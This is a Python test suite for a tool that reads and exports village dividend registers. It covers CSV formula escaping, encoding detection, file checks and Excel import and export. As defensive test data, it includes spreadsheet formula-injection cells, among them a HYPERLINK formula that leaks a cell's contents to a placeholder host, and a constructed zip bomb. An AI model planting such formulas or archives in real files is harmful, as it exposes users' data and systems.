"""The bookkeeper's files (calculator/register/cells.py, files.py, spreadsheet.py): CSV cells safe to open in
Excel and WPS and read back exactly; encodings decided, not guessed; size and kind checked first;
.xlsx and .xls read as they are (written here by other programs: xlsxwriter, xlwt) and the year's table
saved as .xlsx."""

import csv
import io

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from calculator import calculate
from calculator.register.cells import TRIGGERS, formula_safe, formula_unescaped


def register(text, **fields):
    request = {"measure": "dividend_register", "injected_funds": "500000", "distribution_year": 2020,
               "text": text, **fields}
    return calculate(request)


def csv_text(rows):
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    return out.getvalue()


# ---------------------------------------------------------------- formula-safe CSV, and back

def test_cells_that_would_run_as_formulas_get_one_apostrophe():
    assert formula_safe('=HYPERLINK("http://x?"&A3,"点此")') == '\'=HYPERLINK("http://x?"&A3,"点此")'
    for start in TRIGGERS:
        assert formula_safe(start + "1") == "'" + start + "1"
        assert formula_unescaped(formula_safe(start + "1")) == start + "1"
    assert formula_safe("王福贵") == "王福贵" and formula_safe("'阿福") == "'阿福"
    assert formula_safe("'=1") == "''=1" and formula_unescaped("''=1") == "'=1"
    assert formula_unescaped("'阿福") == "'阿福"


def test_the_exported_csv_has_no_cell_a_spreadsheet_would_run():
    text = csv_text([["户主", "股数", "备注"], ["=1+2", "2", '=HYPERLINK("http://x/?"&A3,"点此")'],
                     ["@SUM(A1)", "1", "+86 123"], ["-王", "1", "-"]])
    result = register(text, export=["csv"])
    assert result["ok"], result.get("errors")
    for lang in ("zh", "en"):
        cells = [cell for row in csv.reader(io.StringIO(result["csv"][lang], newline="")) for cell in row]
        assert not [c for c in cells if c.startswith(TRIGGERS)], cells
        assert "'=1+2" in cells and "'@SUM(A1)" in cells and "'-王" in cells and "'-" in cells


# Names and notes a bookkeeper may type: letters, CJK, the formula starters and apostrophes in front.
_START = st.sampled_from(["", "=", "+", "-", "@", "'", "''", "'=", "'+", "''-", "'@"])
_BODY = st.text(alphabet=st.sampled_from(list("王李张福贵Ab1=+-@'\" ,，（）")), min_size=1, max_size=8)
_VALUE = st.builds(lambda start, body: start + body, _START, _BODY).filter(lambda s: s.strip() == s and s.strip())


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.tuples(_VALUE, st.one_of(st.just(""), _VALUE)), min_size=1, max_size=6,
                unique_by=lambda r: r[0]))
def test_a_saved_csv_chosen_again_reads_as_the_same_list(rows):
    text = csv_text([["户主", "股数", "备注"]] + [[name, "1", note] for name, note in rows])
    first = register(text, export=["csv"])
    if not first["ok"]:  # a list the module refuses (a duplicate after folding): nothing to round-trip
        assert all(e["code"].startswith("register_") for e in first["errors"])
        return
    # a cell typed as '=… in the bookkeeper's own file reads as =… (the apostrophe a spreadsheet shows for text)
    assert [(h["household"], h["note"] or "") for h in first["households"]] == \
           [(formula_unescaped(name), formula_unescaped(note)) for name, note in rows]
    for lang in ("zh", "en"):
        again = register(first["csv"][lang], export=["csv"])
        assert again["ok"], again.get("errors")
        assert [(h["household"], h["note"]) for h in again["households"]] == \
               [(h["household"], h["note"]) for h in first["households"]]
        assert again["csv"][lang] == first["csv"][lang]


# ---------------------------------------------------------------- encodings decided, not guessed

from calculator.register.files import MAX_FILE_BYTES, read_file  # noqa: E402

LIST = "户主,股数,脱贫年份,备注\r\n王福贵,2,2019,外出务工（太原）\r\n李䶮,1,,\r\n"


def read(data):
    result = read_file(data)
    return result, (result["errors"][0]["code"] if not result["ok"] else result.get("encoding", result["kind"]))


def test_byte_order_marks_decide_first():
    for prefix, codec, encoding in ((b"\xef\xbb\xbf", "utf-8", "utf8_bom"), (b"\xff\xfe", "utf-16-le", "utf16le"),
                                    (b"\xfe\xff", "utf-16-be", "utf16be")):
        result, said = read(prefix + LIST.encode(codec))
        assert said == encoding and result["text"] == LIST
    # Excel's "Unicode text" (.txt): UTF-16 LE with a BOM, tab separated; it computes as the CSV does
    tsv = LIST.replace(",", "\t")
    result, said = read(b"\xff\xfe" + tsv.encode("utf-16-le"))
    assert said == "utf16le" and "UTF-16" in result["read_as"]["en"]
    assert register(result["text"])["households"] == register(LIST)["households"]


def test_strict_utf8_then_gb18030_only_with_the_header():
    assert read(LIST.encode("utf-8"))[1] == "utf8"
    result, said = read(LIST.encode("gb18030"))
    assert said == "gb18030" and result["text"] == LIST and "GB18030" in result["read_as"]["zh"]
    plain = LIST.replace("䶮", "强")  # 䶮 is beyond GBK
    result, said = read(plain.encode("gbk"))
    assert said == "gb18030" and result["text"] == plain


def test_one_bad_byte_in_a_utf8_file_is_named_not_read_as_gb18030():
    data = LIST.encode("utf-8").replace("李".encode(), b"\xff" + "李".encode()[1:])  # row 3 damaged
    result, said = read(data)
    assert said == "register_file_not_a_table"
    error = result["errors"][0]
    assert "UTF-8（第3行" in error["zh"] and "GB18030" in error["zh"] and "row 3" in error["en"]
    # with an English header a GB18030 reading would find "household": still refused, the bytes are not GB18030
    english = ("household,shares\r\n" + "王福贵,2\r\n" * 3).encode("utf-8") + b"\xc0\r\n"
    assert read(english)[1] == "register_file_not_a_table"


def test_gbk_names_that_happen_to_be_valid_utf8():
    # 郑英 in GBK is D6A3 D3A2, valid UTF-8 for U+05A3 U+04E2 (֣Ӣ); 郑强 is D6A3 C7BF
    assert "郑英".encode("gbk").decode("utf-8") == "\u05a3\u04e2"
    with_chinese_header = "户主,股数\r\n郑英,1\r\n郑强,2\r\n".encode("gbk")  # 户主 in GBK is not UTF-8: decides
    result, said = read(with_chinese_header)
    assert said == "gb18030" and [h["household"] for h in register(result["text"])["households"]] == ["郑英", "郑强"]
    # an English header and only such names: strict UTF-8 reads it (the rule), and the names, beginning with a
    # combining mark, are refused row by row with a message that says the file may be GBK: never printed as ֣Ӣ
    english = "household,shares\r\n郑英,1\r\n郑强,2\r\n".encode("gbk")
    result, said = read(english)
    assert said == "utf8"
    answer = register(result["text"])
    assert not answer["ok"] and [e["code"] for e in answer["errors"]] == ["register_starts_with_mark"] * 2
    assert "GBK" in answer["errors"][0]["zh"] and answer["errors"][0]["row"] == 2


def test_neither_reading_finds_the_header():
    result, said = read("名字,数目\r\n王福贵,2\r\n".encode("gbk"))
    assert said == "register_file_not_a_table"
    assert "找不到“户主”" in result["errors"][0]["zh"] and "UTF-8" in result["errors"][0]["zh"]


# ---------------------------------------------------------------- size and kind first

def test_size_and_kind_are_checked_before_reading():
    result, said = read(b"a" * (MAX_FILE_BYTES + 1))
    assert said == "register_file_too_large" and "5.0 MB" in result["errors"][0]["zh"]
    assert "5.0 MB" in result["errors"][0]["en"]
    for empty in (b"", b"\xef\xbb\xbf", b"\xff\xfe", b"\xfe\xff", b" \r\n", b"\xef\xbb\xbf\r\n"):
        assert read(empty)[1] == "register_file_empty", empty
    kinds = {b"PK\x03\x04" + b"\x00" * 26 + b"word/document.xml": "register_file_zip",
             b"\x89PNG\r\n\x1a\n" + b"\x00" * 20: "register_file_image", b"\xff\xd8\xff\xe0" + b"\x00" * 20: "register_file_image",
             b"GIF89a" + b"\x00" * 10: "register_file_image", b"%PDF-1.7\n": "register_file_pdf",
             "户主,股数\r\n王\x00,1\r\n".encode(): "register_file_binary"}
    for data, code in kinds.items():
        result, said = read(data)
        assert said == code, (data[:8], said)
        assert result["errors"][0]["zh"] and result["errors"][0]["en"] and result["errors"][0]["path"] == "file"
    assert "JPEG" in read(b"\xff\xd8\xff\xe0" + b"\x00" * 20)[0]["errors"][0]["en"]
    assert "压缩包" in read(b"PK\x03\x04" + b"\x00" * 40)[0]["errors"][0]["zh"]


# ---------------------------------------------------------------- Excel workbooks, written by other programs

import datetime  # noqa: E402
import zipfile  # noqa: E402

import pytest  # noqa: E402

from calculator.register.files import register_xlsx  # noqa: E402


def xlsxwriter_book(first_sheet_is_notes=True):
    """A workbook as a village office makes one: a notes sheet first, then the list under a merged title,
    numbers stored as text, years as numbers, a date, an empty row, a formula with its value."""
    xlsxwriter = pytest.importorskip("xlsxwriter")
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True})
    if first_sheet_is_notes:
        book.add_worksheet("说明").write(0, 0, "本表由村会计填写")
    sheet = book.add_worksheet("名单")
    sheet.merge_range("A1:E1", "2020年 某村 贫困户分红名单")
    sheet.merge_range("A2:E2", "填表日期：2020年1月")
    for c, title in enumerate(["序号", "户主", "股数", "脱贫年份", "备注"]):
        sheet.write_string(2, c, title)
    sheet.write_number(3, 0, 1); sheet.write_string(3, 1, "王福贵"); sheet.write_string(3, 2, "2")
    sheet.write_number(3, 3, 2019.0); sheet.write_string(3, 4, "外出务工（太原）")
    sheet.write_number(4, 0, 2); sheet.write_string(4, 1, "李秀英"); sheet.write_formula(4, 2, "=1+0.5", None, 1.5)
    sheet.write_string(4, 3, "2018年")
    sheet.write_datetime(4, 4, datetime.datetime(2020, 3, 1), book.add_format({"num_format": "yyyy-mm-dd"}))
    # row 6 left empty
    sheet.write_number(6, 0, 3); sheet.write_string(6, 1, "=HYPERLINK(\"http://x/\",\"点此\")"); sheet.write_number(6, 2, 3)
    book.add_worksheet("另一张").write(0, 0, "户主")  # a later sheet with a header too: never read
    book.close()
    return out.getvalue()


def test_an_xlsx_from_xlsxwriter_reads_as_the_bookkeeper_sees_it():
    result = read_file(xlsxwriter_book())
    assert result["ok"], result
    assert result["kind"] == "xlsx" and result["sheet"] == "名单" and "第3行" in result["read_as"]["zh"]
    answer = register(result["text"])
    assert answer["ok"], answer.get("errors")
    rows = [(h["row"], h["household"], h["shares"], h["exit_year"], h["note"]) for h in answer["households"]]
    assert rows == [(4, "王福贵", "2", 2019, "外出务工（太原）"), (5, "李秀英", "1.5", 2018, "2020-03-01"),
                    (7, '=HYPERLINK("http://x/","点此")', "3", None, None)]
    assert answer["register"]["empty_rows"] == [6]
    assert "2019.0" not in result["text"]


def test_the_first_sheet_with_the_header_is_read():
    result = read_file(xlsxwriter_book(first_sheet_is_notes=False))
    assert result["ok"] and result["sheet"] == "名单"


def test_a_sheet_that_declares_a_wrong_size_is_read_whole():
    book = xlsxwriter_book()
    source = zipfile.ZipFile(io.BytesIO(book))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as patched:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet2.xml":
                assert b'<dimension ref="A1:E7"/>' in data
                data = data.replace(b'<dimension ref="A1:E7"/>', b'<dimension ref="A1"/>')  # as some programs write it
            patched.writestr(item, data)
    assert read_file(out.getvalue())["text"] == read_file(book)["text"]


def test_an_xlsx_that_would_unpack_to_too_much_is_refused_before_unpacking():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bomb:
        bomb.writestr("[Content_Types].xml", "<Types/>")
        bomb.writestr("xl/workbook.xml", "<workbook/>")
        bomb.writestr("xl/sharedStrings.xml", b"\0" * (65 * 1024 * 1024))
    data = out.getvalue()
    assert len(data) < MAX_FILE_BYTES
    result, said = read(data)
    assert said == "register_file_unpacks_too_large" and "64.0 MB" in result["errors"][0]["zh"]


def big_xlsx(rows=2000):
    xlsxwriter = pytest.importorskip("xlsxwriter")
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True})
    sheet = book.add_worksheet("名单")
    sheet.write_row(0, 0, ["户主", "股数", "脱贫年份", "备注"])
    for i in range(1, rows + 1):
        sheet.write_row(i, 0, [f"户主{i}", 1 + i % 4, 2014 + i % 9, "代领" if i % 7 == 0 else ""])
    book.close()
    return out.getvalue()


def test_an_xls_from_xlwt_reads_the_same():
    xlwt = pytest.importorskip("xlwt")
    book = xlwt.Workbook(encoding="utf-8")
    book.add_sheet("说明").write(0, 0, "说明")
    sheet = book.add_sheet("名单")
    sheet.write_merge(0, 0, 0, 3, "2020年 分红名单")
    for c, title in enumerate(["户主", "股数", "脱贫年份", "备注"]):
        sheet.write(1, c, title)
    sheet.write(2, 0, "王福贵"); sheet.write(2, 1, "2"); sheet.write(2, 2, 2019.0)
    sheet.write(3, 0, "郑英"); sheet.write(3, 1, 1.5); sheet.write(3, 3, datetime.date(2020, 3, 1),
                                                                xlwt.easyxf(num_format_str="YYYY-MM-DD"))
    out = io.BytesIO()
    book.save(out)
    result = read_file(out.getvalue())
    assert result["ok"], result
    assert result["kind"] == "xls" and result["sheet"] == "名单" and "xls" in result["read_as"]["en"]
    answer = register(result["text"])
    assert [(h["row"], h["household"], h["shares"], h["exit_year"], h["note"]) for h in answer["households"]] == \
           [(3, "王福贵", "2", 2019, None), (4, "郑英", "1.5", None, "2020-03-01")]


def test_workbooks_that_cannot_be_read_say_so():
    assert read(b"PK\x03\x04" + b"xl/workbook.xml" + b"\x00" * 40)[1] == "register_file_bad_workbook"
    assert read(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600)[1] == "register_file_bad_workbook"
    xlsxwriter = pytest.importorskip("xlsxwriter")
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True})
    book.add_worksheet("名单").write(0, 0, "名字")
    book.close()
    result, said = read(out.getvalue())
    assert said == "register_file_no_header_sheet" and "户主" in result["errors"][0]["zh"]


def test_the_xlsx_export_stores_text_as_text_and_reads_back_as_the_same_list():
    openpyxl = pytest.importorskip("openpyxl")
    text = csv_text([["户主", "股数", "脱贫年份", "备注"], ["=1+2", "2", "2019", '=HYPERLINK("http://x/?"&A3,"点此")'],
                     ["王福贵", "1.5", "", "-"], ["'阿福", "3", "2016", "@x"]])
    first = register(text, export=["csv"])
    for lang in ("zh", "en"):
        made = register_xlsx({"measure": "dividend_register", "injected_funds": "500000", "distribution_year": 2020,
                              "text": text}, lang)
        assert made["ok"] and made["year"] == 2020
        import base64
        data = base64.b64decode(made["xlsx"])
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no cell is a formula
        book = openpyxl.load_workbook(io.BytesIO(data))
        cells = [[c.value for c in row] for row in book.active.iter_rows()]
        assert cells[0] == next(csv.reader(io.StringIO(first["csv"][lang])))  # the CSV's columns
        assert cells[1][0] == "=1+2" and book.active["A2"].data_type == "s"
        assert cells[1][1] == 2 and cells[1][2] == 2019 and book.active["E2"].number_format == "#,##0.00"
        again = read_file(data)
        assert again["ok"], again
        back = register(again["text"])
        assert [(h["household"], h["shares"], h["exit_year"], h["note"]) for h in back["households"]] == \
               [(h["household"], h["shares"], h["exit_year"], h["note"]) for h in first["households"]]


# ---------------------------------------------------------------- the same in Pyodide, as the worker loads it

def xlwt_book():
    xlwt = pytest.importorskip("xlwt")
    book = xlwt.Workbook(encoding="utf-8")
    sheet = book.add_sheet("名单")
    for c, title in enumerate(["户主", "股数", "脱贫年份"]):
        sheet.write(0, c, title)
    sheet.write(1, 0, "王福贵"); sheet.write(1, 1, "2"); sheet.write(1, 2, 2019.0)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


@pytest.mark.pyodide
@pytest.mark.parametrize("start", ["fresh", "snapshot"])
def test_files_read_in_pyodide_give_cpythons_json_and_the_readers_load_only_for_a_workbook(start):
    import base64
    import json
    import subprocess
    import tempfile
    from pathlib import Path

    from test_pyodide_parity import _runtime_missing
    from sitebuild import runtime

    if _runtime_missing():
        pytest.skip(_runtime_missing())
    broken = LIST.encode("utf-8").replace("李".encode(), b"\xff" + "李".encode()[1:])
    files = [("list.csv", LIST.encode("gb18030")), ("bad.csv", broken), ("photo.csv", b"\x89PNG\r\n\x1a\n" + b"\x00" * 9),
             ("list.txt", b"\xff\xfe" + LIST.replace(",", "\t").encode("utf-16-le")),
             ("book.xlsx", xlsxwriter_book()), ("book.xls", xlwt_book()), ("big.xlsx", big_xlsx())]
    request = json.dumps({"measure": "dividend_register", "injected_funds": "500000", "distribution_year": 2020,
                          "text": csv_text([["户主", "股数", "备注"], ["=1+2", "2", "@x"], ["王福贵", "1", ""]])})
    jobs = {"files": [{"name": n, "base64": base64.b64encode(d).decode()} for n, d in files],
            "xlsx": [{"request": request, "lang": lang} for lang in ("zh", "en")]}
    manifest = runtime.write_runtime(tempfile.mkdtemp(prefix="register-files-"))
    script = Path(__file__).parent / "pyodide" / "run_register_files.mjs"
    done = subprocess.run(["node", str(script), str(manifest)] + (["--snapshot"] if start == "snapshot" else []),
                          input=json.dumps(jobs), capture_output=True,
                          text=True, timeout=300)
    assert done.returncode == 0, done.stderr[-3000:]
    report = json.loads(done.stdout)
    from calculator.register.files import read_file_json
    assert report["files"] == [read_file_json(d) for _, d in files]
    assert report["loaded_spreadsheet_at"] == 4  # the text files needed no Excel reader
    openpyxl = pytest.importorskip("openpyxl")
    for lang, text in zip(("zh", "en"), report["xlsx"]):
        made = json.loads(text)
        assert made["ok"]
        mine = register_xlsx(json.loads(request), lang)
        cells = lambda answer: [[c.value for c in row] for row in openpyxl.load_workbook(
            io.BytesIO(base64.b64decode(answer["xlsx"]))).active.iter_rows()]
        assert cells(made) == cells(mine) and cells(made)[1][0] == "=1+2"
    assert len(json.loads(report["files"][-1])["text"].splitlines()) == 2001
    print(f"Pyodide ({start}): the Excel readers written in and imported in {report['spreadsheet_ms']:.0f} ms; "
          f"a 2,000-row .xlsx ({len(files[-1][1]):,} bytes) read in {report['files_ms'][-1]:.0f} ms")


def test_the_page_states_the_size_limit_the_module_applies():
    import tomllib
    from pathlib import Path

    site = tomllib.loads((Path(__file__).parent.parent / "site_src" / "site.toml").read_text(encoding="utf-8"))
    limit = f"{MAX_FILE_BYTES // (1024 * 1024)} MB"
    assert limit in site["text"]["reg_file_hint"]["zh"] and limit in site["text"]["reg_file_hint"]["en"]
    assert ".xlsx" in site["text"]["reg_file_hint"]["zh"] and ".xls" in site["text"]["reg_file_hint"]["en"]
